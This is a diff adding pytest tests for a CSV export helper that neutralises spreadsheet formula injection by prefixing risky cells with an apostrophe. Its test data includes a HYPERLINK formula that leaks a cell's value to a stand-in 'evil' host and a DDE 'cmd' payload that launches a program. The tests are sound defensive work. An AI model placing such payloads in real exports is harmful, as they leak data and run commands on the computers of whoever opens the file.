@@ -1,0 +1,33 @@
+"""kernel.exports: no cell of an export is read as a formula (OWASP CSV injection)."""
+import csv
+import io
+
+import pytest
+
+from kernel import exports
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\t=x", "\r=x",
+                                  '=HYPERLINK("http://evil/?"&A1,"x")'])
+def test_cells_starting_like_a_formula_get_a_leading_apostrophe(text):
+    assert exports.cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["张三", "阿依古丽·买买提", "a=b", "13800138000", "", "O'Brien"])
+def test_ordinary_text_is_unchanged(text):
+    assert exports.cell(text) == text
+
+
+def test_numbers_and_none_are_written_as_they_are():
+    assert exports.cell(-3) == -3
+    assert exports.cell(78.5) == 78.5
+    assert exports.cell(None) == ""
+
+
+def test_writer_escapes_every_text_cell_and_reads_back():
+    out = io.StringIO()
+    w = exports.writer(out, lineterminator="\n")
+    w.writerow(["序号", "姓名"])
+    w.writerows([[1, "=cmd|' /C calc'!A0"], [2, "张三"]])
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert rows == [["序号", "姓名"], ["1", "'=cmd|' /C calc'!A0"], ["2", "张三"]]
